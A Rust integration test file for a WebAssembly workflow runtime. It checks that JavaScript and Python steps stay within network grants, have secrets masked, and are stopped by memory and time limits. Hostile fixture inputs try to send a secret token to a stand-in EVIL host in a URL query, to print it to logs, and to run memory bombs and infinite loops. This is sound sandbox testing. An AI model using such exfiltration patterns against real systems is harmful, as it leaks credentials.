//! JavaScript (componentize-js) and Python (componentize-py) steps under the
//! same grants, egress checks, masking and limits as Rust steps: the example
//! step and the hostile fixture of each language, from the guest side.

use std::time::Duration;

use serde_json::json;
use wrun_runtime::{AuditKind, Error, Grants};

use crate::common::*;

/// The languages and where their components are.
fn languages() -> [(&'static str, std::path::PathBuf); 2] {
    [
        ("javascript", wrun_tests::guests_js_dir()),
        ("python", wrun_tests::guests_py_dir()),
    ]
}

fn component(env: &TestEnv, dir: &std::path::Path, file: &str) -> wrun_runtime::Component {
    let bytes = std::fs::read(dir.join(file))
        .unwrap_or_else(|e| panic!("{}: {e}", dir.join(file).display()));
    env.engine.load(file, &bytes).unwrap()
}

#[tokio::test]
async fn the_example_step_fetches_with_a_token_it_never_sees() {
    let env = TestEnv::new().await;
    for (lang, dir) in languages() {
        let file = if lang == "python" {
            "fetch_record.wasm"
        } else {
            "fetch-record.wasm"
        };
        let grants = Grants::builder()
            .net(env.host(API))
            .secret("github", "api-token")
            .env("github_api")
            .build()
            .unwrap();
        let step = env
            .engine
            .step("fetch", &component(&env, &dir, file), grants)
            .unwrap();
        let input = json!({ "owner": "octo", "repo": "hello", "number": 7 });
        let result = env.job().run(&step, "fetch-record", &input).await;
        env.assert_no_leak(&result);
        let out = success(result);
        assert_eq!(out.output["title"], "Issue 7 title", "{lang}");
        assert_eq!(out.output["author"], "octocat", "{lang}");
    }
    // The mock checks the bearer token: both requests carried the value.
    assert_eq!(env.server.requests().len(), 2);
    assert!(
        env.server
            .requests()
            .iter()
            .all(|r| r.header("authorization") == Some(&format!("Bearer {}", env.canary)))
    );
}

#[tokio::test]
async fn hostile_steps_cannot_send_the_secret_elsewhere_or_in_clear() {
    let env = TestEnv::new().await;
    for (lang, dir) in languages() {
        let hostile = component(&env, &dir, "hostile.wasm");
        let step = env
            .engine
            .step("hostile", &hostile, env.hostile_grants().build().unwrap())
            .unwrap();
        let cases = [
            (env.url(EVIL, "/echo?t={secret}"), "not in the `net` grant"),
            (env.url(API, "/echo?t={secret}"), "allows only"),
            (
                format!("http://{API}:{}/echo", env.server.port()),
                "only https://",
            ),
        ];
        for (url, reason) in cases {
            let input = json!({ "url": url, "secret": "api", "headers": [["authorization", "Bearer {secret}"]] });
            let result = env.job().run(&step, "http", &input).await;
            env.assert_no_leak(&result);
            let (text, _) = failure(result);
            assert!(
                text.contains("wrun egress refused") && text.contains(reason),
                "{lang} {url}: {text}"
            );
        }
    }
    assert!(env.server.requests().is_empty());
    assert!(!env.server.raw_bytes_contain(env.canary.as_bytes()));
    assert!(
        env.observer
            .audits()
            .iter()
            .any(|a| a.kind == AuditKind::SecretMisuse)
    );
}

#[tokio::test]
async fn echoed_printed_and_returned_secrets_are_masked() {
    let env = TestEnv::new().await;
    for (lang, dir) in languages() {
        let hostile = component(&env, &dir, "hostile.wasm");
        let step = env
            .engine
            .step("hostile", &hostile, env.hostile_grants().build().unwrap())
            .unwrap();
        for how in ["output", "log", "stdout", "error"] {
            let input = json!({ "url": env.url(API, "/echo/leak"), "secret": "api", "how": how });
            let result = env.job().run(&step, "leak", &input).await;
            env.assert_no_leak(&result);
            let seen = match &result {
                Ok(out) => format!("{}{}", out.output, logs(&out.events)),
                Err(f) => format!("{f}{}", logs(&f.events)),
            };
            assert!(seen.contains("Bearer ***"), "{lang} {how}: {seen}");
        }
    }
}

/// Every step runs in a fresh instance, also where the pool resets a large
/// snapshot by its dirty pages: a count kept in a global is 1 in every step,
/// after steps that dirtied megabytes of memory or died at the limit.
#[tokio::test]
async fn javascript_and_python_steps_start_from_a_fresh_instance() {
    let env = TestEnv::new().await;
    for (lang, dir) in languages() {
        let hostile = component(&env, &dir, "hostile.wasm");
        let grants = env.hostile_grants().memory(64 << 20);
        let step = env
            .engine
            .step("hostile", &hostile, grants.build().unwrap())
            .unwrap();
        let job = env.job();
        for round in 0..3 {
            let out = success(job.run(&step, "counter", &json!({})).await);
            assert_eq!(out.output, json!({"count": 1}), "{lang}, round {round}");
            let out = success(job.run(&step, "memory-bomb", &json!({"mib": 8})).await);
            assert_eq!(out.output["allocated_mib"], 8, "{lang}");
            let (text, f) = failure(env.job().run(&step, "memory-bomb", &json!({})).await);
            assert!(
                matches!(f.error, Error::MemoryLimit { .. }),
                "{lang}: {text}"
            );
        }
    }
}

#[tokio::test]
async fn memory_bombs_and_infinite_loops_end_the_step() {
    let env = TestEnv::new().await;
    for (lang, dir) in languages() {
        let hostile = component(&env, &dir, "hostile.wasm");
        let grants = env
            .hostile_grants()
            .memory(64 << 20)
            .timeout(Duration::from_millis(1500));
        let step = env
            .engine
            .step("hostile", &hostile, grants.build().unwrap())
            .unwrap();
        let (text, f) = failure(env.job().run(&step, "memory-bomb", &json!({})).await);
        assert!(
            matches!(f.error, Error::MemoryLimit { .. }),
            "{lang}: {text}"
        );
        let (text, f) = failure(env.job().run(&step, "spin", &json!({})).await);
        assert!(matches!(f.error, Error::Timeout { .. }), "{lang}: {text}");
    }
}

#[tokio::test]
async fn oversized_responses_are_cut_off() {
    let env = TestEnv::with(|b| {
        b.allow_range("127.0.0.0/8".parse().unwrap()).egress_limits(
            wrun_runtime::egress::EgressLimits {
                max_response_body: 1 << 20,
                ..Default::default()
            },
        )
    })
    .await;
    for (lang, dir) in languages() {
        let hostile = component(&env, &dir, "hostile.wasm");
        let step = env
            .engine
            .step("hostile", &hostile, env.hostile_grants().build().unwrap())
            .unwrap();
        let input = json!({ "url": env.url(API, "/big?bytes=5000000") });
        let result = env.job().run(&step, "http", &input).await;
        assert!(
            result.is_err(),
            "{lang}: a 5 MB response passed a 1 MiB limit"
        );
    }
}

/// A Rust step, a JavaScript step and a Python step chained through data
/// pills in one recipe and one job.
#[tokio::test]
async fn a_recipe_chains_rust_javascript_and_python_steps() {
    use wrun_runtime::manifest::Manifest;
    use wrun_runtime::recipe::{Recipe, StepStatus};

    let env = TestEnv::new().await;
    let grants = format!(
        "[steps.grants]\nnet = [\"{}\"]\nsecrets = {{ github = \"api-token\" }}\nenv = [\"github_api\"]\n",
        env.host(API)
    );
    let manifest = format!(
        r#"[recipe]
name = "three-languages"

[[steps]]
name = "rust-fetch"
component = "rust.wasm"
action = "get-issue"
input = {{ owner = "{{{{ trigger.owner }}}}", repo = "{{{{ trigger.repo }}}}", number = "{{{{ trigger.number }}}}" }}
{grants}
[[steps]]
name = "js-fetch"
component = "js.wasm"
action = "fetch-record"
input = {{ owner = "{{{{ trigger.owner }}}}", repo = "{{{{ trigger.repo }}}}", number = "{{{{ steps.rust-fetch.number }}}}" }}
{grants}
[[steps]]
name = "py-fetch"
component = "py.wasm"
action = "fetch-record"
condition = "{{{{ steps.js-fetch.author }}}}"
input = {{ owner = "{{{{ steps.rust-fetch.author }}}}", repo = "{{{{ trigger.repo }}}}", number = "{{{{ steps.js-fetch.number }}}}" }}
{grants}mask = ["/author"]
"#
    );
    let manifest = Manifest::parse(&manifest).unwrap_or_else(|e| panic!("{e}"));
    let [(_, js), (_, py)] = languages();
    let recipe = Recipe::load(&env.engine, manifest, |path| match path.to_str() {
        Some("rust.wasm") => Ok(guest_bytes("github-issue")),
        Some("js.wasm") => std::fs::read(js.join("fetch-record.wasm")),
        Some("py.wasm") => std::fs::read(py.join("fetch_record.wasm")),
        _ => Err(std::io::Error::other("unknown component")),
    })
    .unwrap();
    let job = env.job();
    let report = recipe
        .run(
            &job,
            &json!({ "owner": "octo", "repo": "hello", "number": 9 }),
            |_| {},
        )
        .await;
    assert!(report.ok, "{report:#?}");
    let statuses: Vec<_> = report.steps.iter().map(|s| s.status.clone()).collect();
    assert_eq!(
        statuses,
        [
            StepStatus::Succeeded,
            StepStatus::Succeeded,
            StepStatus::Succeeded
        ]
    );
    // The Python step got its owner from the Rust step and its number
    // through the JavaScript step.
    let paths: Vec<String> = env
        .server
        .requests()
        .iter()
        .map(|r| r.path_and_query.clone())
        .collect();
    assert_eq!(
        paths,
        [
            "/repos/octo/hello/issues/9",
            "/repos/octo/hello/issues/9",
            "/repos/octocat/hello/issues/9"
        ]
    );
    let stored = report.steps[2].output.as_ref().unwrap();
    assert_eq!(stored["title"], "Issue 9 title");
    // The Python step's `mask` grant masks a field of what is stored.
    assert_eq!(stored["author"], "***");
    // The JavaScript step marked the issue body it read: masked too.
    assert_eq!(
        report.steps[1].output.as_ref().unwrap()["token_hint"],
        "***"
    );
    let everything = serde_json::to_string(&report).unwrap();
    wrun_tests::assert_absent(everything.as_bytes(), &[&env.canary], "the run report");
}
